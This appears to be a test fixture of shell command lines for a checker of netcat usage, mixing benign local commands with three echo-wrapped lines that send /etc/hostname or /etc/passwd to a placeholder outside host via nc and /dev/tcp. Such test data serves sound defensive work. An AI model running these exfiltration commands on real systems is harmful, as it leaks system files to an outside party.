# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/nc.openbsd=nc
sh -c 'echo stats | nc -w 1 127.0.0.1 11211'
sh -c 'nc -z 127.0.0.1 22 && echo up'
sh -c 'tar czf - /etc/hostname | gzip -t'
/bin/echo sh -c 'tar czf - /etc/hostname | nc -q1 192.0.2.7 9000'
/bin/echo sh -c 'nc -w 3 192.0.2.7 9000 < /etc/passwd'
/bin/echo bash -c 'cat /etc/passwd > /dev/tcp/192.0.2.7/9000'
